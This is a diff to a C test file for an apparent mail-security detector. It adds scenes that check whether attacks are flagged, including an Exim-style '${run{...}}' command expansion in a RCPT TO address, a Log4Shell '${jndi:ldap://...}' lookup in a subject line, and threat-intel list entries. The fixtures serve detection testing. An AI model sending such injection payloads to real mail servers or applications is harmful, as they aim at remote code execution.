@@ -234,10 +234,34 @@ static void smuggling_tried(struct stage *st) { content(st, Q(eod_lookalike) | Q
 static void bare_lf_client(struct stage *st) { content(st, Q(eod_lookalike) | Q(eod_other)); }
 static void lookalike_only(struct stage *st) { content(st, Q(eod_lookalike)); }
 
+static void expansion(struct stage *st) { exchange(st, "RCPT", "TO:<${run{x}}@localhost>", 550, 0); }
+static void sign_alone(struct stage *st) { exchange(st, "RCPT", "TO:<cash$@example.org>", 250, 0); }
+static void security_report(struct stage *st)
+{
+	struct sc_ev_message x = { .n = 1, .subject = SC_STR("about ${jndi:ldap://192.0.2.1/a}"), .complete = true };
+	tell_event(st, SC_EVENT_message, &x);
+}
+static void list_line(struct stage *st, const char *line)
+{
+	char room[200];
+	struct sc_text why = sc_text_into(room, sizeof(room));
+	assert_true(sc_detect_settings_intel(st->settings, sc_str_of(line), &why));
+	plain(st, 1, 0);
+}
+static void on_the_list(struct stage *st) { list_line(st, "203.0.113.0/24 bad network"); }
+static void beside_the_network(struct stage *st) { list_line(st, "203.0.113.8/29 bad network"); }
+static void label_alone(struct stage *st) { list_line(st, "evil.example seen from 203.0.113.7"); }
+
 static void test_scenes(void **state)
 {
 	(void)state;
 	static const struct scene scenes[] = {
+		{ "an expansion", "exploit", HOME, expansion, "high" },
+		{ "a sign alone", "exploit", HOME, sign_alone, NULL },
+		{ "a security report", "exploit", HOME, security_report, "low" },
+		{ "on the list", "intel", HOME, on_the_list, "medium" },
+		{ "beside the network", "intel", HOME, beside_the_network, NULL },
+		{ "a label alone", "intel", HOME, label_alone, NULL },
 		{ "masked", "starttls_stripped", HOME, masked, "high" },
 		{ "another word masked", "starttls_stripped", HOME, masked_other, "medium" },
 		{ "offered before", "starttls_stripped", HOME, offered_before, NULL },
@@ -285,7 +309,7 @@ static void test_scenes(void **state)
 		{ "LF.LF of a clumsy client", "smtp_smuggling", HOME, bare_lf_client, NULL },
 		{ "a look-alike", "smtp_smuggling", HOME, lookalike_only, NULL },
 	};
-	PLAY_ALL(scenes);
+	PLAY_FIXTURES("transport", scenes);
 }
 
 /* At first one client is left out, then it turns out that nobody gets an offer: the client's finding is told, then the server's. */
